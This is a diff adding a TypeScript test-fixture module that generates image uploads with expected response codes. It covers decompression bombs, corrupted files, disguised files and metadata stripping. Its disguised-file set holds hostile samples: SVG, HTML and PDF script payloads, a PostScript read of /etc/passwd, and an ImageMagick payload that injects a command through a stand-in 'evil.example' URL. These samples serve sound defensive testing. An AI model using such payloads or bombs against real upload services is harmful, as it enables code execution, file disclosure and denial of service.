@@ -1,0 +1,261 @@
+import { deflateSync } from 'node:zlib'
+import sharp, { type Sharp } from 'sharp'
+
+type Pixels = Parameters<typeof sharp>[1]
+
+export interface ImageFile {
+  name: string
+  bytes: Buffer
+  /** What the upload is answered with. */
+  status: 201 | 413 | 422
+}
+
+const plain = (width: number, height: number, more: Partial<Pixels> = {}) =>
+  sharp({ create: { width, height, channels: 3, background: '#c33' }, ...more })
+
+/** Pixels that no encoder makes small; the same each time. */
+function noise(width: number, height: number): Sharp {
+  const bytes = Buffer.alloc(width * height * 3)
+  let state = 1
+  for (let at = 0; at < bytes.length; at++)
+    bytes[at] = (state = (state * 1103515245 + 12345) & 0x7fffffff) >> 16
+  return sharp(bytes, { raw: { width, height, channels: 3 } })
+}
+
+const crcTable = Array.from({ length: 256 }, (_, byte) => {
+  let crc = byte
+  for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1
+  return crc
+})
+
+function crcOf(bytes: Buffer): number {
+  let crc = -1
+  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8)
+  return ~crc >>> 0
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
+  const framed = Buffer.alloc(named.length + 8)
+  framed.writeUInt32BE(data.length, 0)
+  named.copy(framed, 4)
+  framed.writeUInt32BE(crcOf(named), named.length + 4)
+  return framed
+}
+
+const pngSignature = Buffer.from('89504e470d0a1a0a', 'hex')
+
+/** A PNG by hand, with a header that promises whatever it is told to. */
+function png(
+  width: number,
+  height: number,
+  content: Buffer,
+  { depth = 8, colour = 2, extra = [] as Buffer[] } = {},
+) {
+  const header = Buffer.alloc(13)
+  header.writeUInt32BE(width, 0)
+  header.writeUInt32BE(height, 4)
+  header.set([depth, colour, 0, 0, 0], 8)
+  return Buffer.concat([
+    ...[pngSignature, chunk('IHDR', header), ...extra],
+    ...[chunk('IDAT', content), chunk('IEND', Buffer.alloc(0))],
+  ])
+}
+
+const few = deflateSync(Buffer.alloc(64))
+const rows = (width: number, height: number) =>
+  deflateSync(Buffer.alloc((width * 3 + 1) * height), { level: 9 })
+
+/** The two sides that stand in the first frame of a JPEG. */
+function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
+  const changed = Buffer.from(jpeg)
+  const frame = changed.findIndex(
+    (byte, at) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(changed[at + 1] ?? 0),
+  )
+  changed.writeUInt16BE(height, frame + 5)
+  changed.writeUInt16BE(width, frame + 7)
+  return changed
+}
+
+/** The sides of a WebP with an extended header, of 24 bits each. */
+function webpOfSize(webp: Buffer, width: number, height: number): Buffer {
+  const extended = Buffer.alloc(18)
+  extended.write('VP8X', 0, 'latin1')
+  extended.writeUInt32LE(10, 4)
+  extended.writeUIntLE(width - 1, 12, 3)
+  extended.writeUIntLE(height - 1, 15, 3)
+  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), extended, webp.subarray(12)])
+  const size = Buffer.alloc(4)
+  size.writeUInt32LE(body.length)
+  return Buffer.concat([Buffer.from('RIFF', 'latin1'), size, body])
+}
+
+const secret = 'Halyard-Secret-Place'
+const exif = {
+  IFD0: { Copyright: secret, Artist: secret },
+  IFD3: {
+    GPSLatitude: '43/1 39/1 0/1',
+    GPSLatitudeRef: 'N',
+    GPSLongitude: '70/1 15/1 0/1',
+    GPSLongitudeRef: 'W',
+  },
+}
+
+async function bombs(): Promise<ImageFile[]> {
+  const jpeg = await plain(64, 64).jpeg().toBuffer()
+  const webp = await plain(64, 64).webp().toBuffer()
+  const refused = (name: string, bytes: Buffer): ImageFile => ({ name, bytes, status: 422 })
+  return [
+    refused('a PNG that says 30000 × 30000', png(30_000, 30_000, few)),
+    refused('a PNG that says 2 147 483 647 × 1', png(0x7fffffff, 1, few)),
+    refused('a PNG that says 1 × 2 147 483 647', png(1, 0x7fffffff, few)),
+    refused('a PNG that says 4 294 967 295 twice', png(0xffffffff, 0xffffffff, few)),
+    refused('a PNG that says 0 × 0', png(0, 0, few)),
+    refused('a PNG of 12001 × 1', png(12_001, 1, rows(12_001, 1))),
+    refused('a PNG of 1 × 12001', png(1, 12_001, rows(1, 12_001))),
+    refused('a PNG of 42 megapixels in 40 kB', png(7_000, 6_000, rows(7_000, 6_000))),
+    refused('a JPEG that says 65500 × 65500', withJpegSize(jpeg, 65_500, 65_500)),
+    refused('a JPEG that says 12001 × 64', withJpegSize(jpeg, 12_001, 64)),
+    refused('a JPEG that says 0 × 0', withJpegSize(jpeg, 0, 0)),
+    refused('a WebP that says 16383 × 16383', webpOfSize(webp, 16_383, 16_383)),
+    refused('a WebP that says 16777216 × 16777216', webpOfSize(webp, 0x1000000, 0x1000000)),
+    {
+      name: 'a PNG of which 20 MB are compressed text',
+      bytes: png(8, 8, rows(8, 8), {
+        extra: [
+          chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))])),
+        ],
+      }),
+      status: 201,
+    },
+  ]
+}
+
+async function damaged(): Promise<ImageFile[]> {
+  const whole = {
+    png: await noise(200, 150).png().toBuffer(),
+    jpeg: await noise(200, 150).jpeg().toBuffer(),
+    'progressive JPEG': await noise(200, 150).jpeg({ progressive: true }).toBuffer(),
+    webp: await noise(200, 150).webp().toBuffer(),
+  }
+  const cut = Object.entries(whole).flatMap(([format, bytes]) =>
+    [9, 30, 0.25, 0.5, 0.9].map((part) => {
+      const length = part < 1 ? Math.floor(bytes.length * part) : part
+      return {
+        name: `a ${format} cut after ${part < 1 ? `${part * 100} %` : `${part} bytes`}`,
+        bytes: bytes.subarray(0, length),
+      }
+    }),
+  )
+  const flipped = Buffer.from(whole.png)
+  flipped.fill(0xff, 200, 260)
+  const wrongSum = Buffer.from(whole.png)
+  wrongSum.writeUInt32BE(0, 29)
+  const others = [
+    { name: 'a PNG with overwritten content', bytes: flipped },
+    { name: 'a PNG with a wrong checksum', bytes: wrongSum },
+    { name: 'a PNG without content', bytes: Buffer.concat([pngSignature, chunk('IEND', Buffer.alloc(0))]) },
+    { name: 'a PNG of an unknown kind of colour', bytes: png(8, 8, rows(8, 8), { colour: 5 }) },
+    { name: 'a PNG of three bits', bytes: png(8, 8, rows(8, 8), { depth: 3 }) },
+    { name: 'the three bytes that begin a JPEG', bytes: Buffer.from('ffd8ff', 'hex') },
+    { name: 'the twelve bytes that begin a WebP', bytes: whole.webp.subarray(0, 12) },
+    { name: 'a JPEG of zeros', bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(5000)]) },
+  ]
+  return [...cut, ...others].map((file) => ({ ...file, status: 422 }))
+}
+
+const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
+
+async function disguised(): Promise<ImageFile[]> {
+  const jpeg = await plain(32, 32).jpeg().toBuffer()
+  const others: Record<string, Buffer> = {
+    'a GIF': await plain(32, 32).gif().toBuffer(),
+    'a TIFF': await plain(32, 32).tiff().toBuffer(),
+    'an AVIF': await plain(32, 32).avif({ effort: 0 }).toBuffer(),
+    'an SVG': Buffer.from(svg),
+    'a compressed SVG': Buffer.from('1f8b0800000000000003', 'hex'),
+    HTML: Buffer.from('<!doctype html><script>alert(1)</script>'),
+    'a PDF': Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
+    'a BMP': Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)]),
+    'an icon': Buffer.from('00000100010010100000', 'hex'),
+    'a HEIC': Buffer.from('0000001866747970686569630000000068656963', 'hex'),
+    'a JPEG XL': Buffer.from('0000000c4a584c200d0a870a', 'hex'),
+    'a JPEG 2000': Buffer.from('0000000c6a5020200d0a870a', 'hex'),
+    'an OpenEXR': Buffer.from('762f310102000000', 'hex'),
+    'a PPM': Buffer.from('P6 1 1 255\nabc'),
+    'a PostScript': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
+    'ImageMagick words': Buffer.from('push graphic-context\nfill "url(https://evil.example/|id)"\npop'),
+    'a ZIP': Buffer.from('504b0304140000000000', 'hex'),
+    'a program': Buffer.from('7f454c4602010100', 'hex'),
+    'a RIFF that is a sound': Buffer.concat([Buffer.from('RIFF....WAVEfmt '), Buffer.alloc(100)]),
+    'a PNG behind a blank': Buffer.concat([Buffer.from(' '), png(8, 8, rows(8, 8))]),
+    'a JPEG behind HTML': Buffer.concat([Buffer.from('<script>alert(1)</script>'), jpeg]),
+    'an SVG that begins like a PNG': Buffer.concat([pngSignature, Buffer.from(svg)]),
+    'an SVG that begins like a JPEG': Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(svg)]),
+    'a GIF that begins like a WebP': Buffer.from('RIFF\x10\0\0\0WEBPGIF89a', 'latin1'),
+  }
+  return Object.entries(others).map(([name, bytes]) => ({ name, bytes, status: 422 }))
+}
+
+/** Good images; whatever else is in them must not come out again. */
+async function taken(): Promise<ImageFile[]> {
+  const frames = Buffer.concat([Buffer.alloc(32 * 32 * 3, 200), Buffer.alloc(32 * 32 * 3, 20)])
+  const animated = await sharp(frames, { raw: { width: 32, height: 64, channels: 3, pageHeight: 32 } })
+    .webp({ loop: 0, delay: [100, 100] })
+    .toBuffer()
+  const xmp = `<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><x>${secret}</x></x:xmpmeta>`
+  const comment = chunk('tEXt', Buffer.from(`Comment\0${secret}`))
+  const animation = chunk('acTL', Buffer.from('0000000200000000', 'hex'))
+  const jpeg = await plain(64, 48).jpeg().toBuffer()
+  const images: Record<string, Buffer> = {
+    'a PNG of one pixel': png(1, 1, rows(1, 1)),
+    'a JPEG of one pixel': await plain(1, 1).jpeg().toBuffer(),
+    'a WebP of one pixel': await plain(1, 1).webp().toBuffer(),
+    'a PNG of 12000 × 1': png(12_000, 1, rows(12_000, 1)),
+    'a PNG of 39 megapixels': png(6_500, 6_000, rows(6_500, 6_000)),
+    'a PNG of 16 bits': await plain(40, 40).toColourspace('rgb16').png().toBuffer(),
+    'a PNG in grey': await plain(40, 40).greyscale().png().toBuffer(),
+    'a PNG with a palette': await plain(40, 40).png({ palette: true }).toBuffer(),
+    'a PNG that can be seen through': await plain(40, 40).ensureAlpha(0.5).png().toBuffer(),
+    'an interlaced PNG': await noise(40, 40).png({ progressive: true }).toBuffer(),
+    'a PNG with a comment': png(8, 8, rows(8, 8), { extra: [comment] }),
+    'a PNG that says it is animated': png(8, 8, rows(8, 8), { extra: [animation] }),
+    'a progressive JPEG': await noise(80, 60).jpeg({ progressive: true }).toBuffer(),
+    'a JPEG for print': await plain(40, 40).toColourspace('cmyk').jpeg().toBuffer(),
+    'a JPEG with the place it was taken': await plain(64, 48).withExif(exif).jpeg().toBuffer(),
+    'a JPEG with notes': await plain(64, 48).withXmp(xmp).jpeg().toBuffer(),
+    'a JPEG with a profile of colours': await plain(64, 48).withIccProfile('p3').jpeg().toBuffer(),
+    'a WebP with the place it was taken': await plain(64, 48).withExif(exif).webp().toBuffer(),
+    'a PNG with the place it was taken': await plain(64, 48).withExif(exif).png().toBuffer(),
+    'an animated WebP': animated,
+    'a WebP without loss': await noise(40, 40).webp({ lossless: true }).toBuffer(),
+    'a JPEG with HTML behind it': Buffer.concat([jpeg, Buffer.from(`<script>${secret}</script>`)]),
+    'a JPEG with a ZIP behind it': Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${secret}`, 'latin1')]),
+    'a PNG with PHP in it': png(8, 8, rows(8, 8), {
+      extra: [chunk('tEXt', Buffer.from(`x\0<?php ${secret} ?>`))],
+    }),
+  }
+  return Object.entries(images).map(([name, bytes]) => ({ name, bytes, status: 201 }))
+}
+
+const LIMIT = 5 * 1024 * 1024
+
+/** A good PNG, filled up to the size with a chunk that decoders pass over. */
+function filledUp(size: number): Buffer {
+  const bare = png(8, 8, rows(8, 8)).length + 12
+  return png(8, 8, rows(8, 8), { extra: [chunk('prVt', Buffer.alloc(size - bare))] })
+}
+
+const sized = (): ImageFile[] => [
+  { name: 'nothing', bytes: Buffer.alloc(0), status: 422 },
+  { name: 'one byte', bytes: Buffer.from([0xff]), status: 422 },
+  { name: 'a PNG of exactly 5 MB', bytes: filledUp(LIMIT), status: 201 },
+  { name: 'a PNG of 5 MB and one byte', bytes: filledUp(LIMIT + 1), status: 413 },
+  { name: 'zeros of more than 6 MB', bytes: Buffer.alloc(6_100_000), status: 413 },
+]
+
+export { secret as imageSecret }
+
+/** Files that somebody might upload as a picture, made anew for each run. */
+export const imageFiles = async (): Promise<ImageFile[]> =>
+  (await Promise.all([bombs(), damaged(), disguised(), taken(), sized()])).flat()
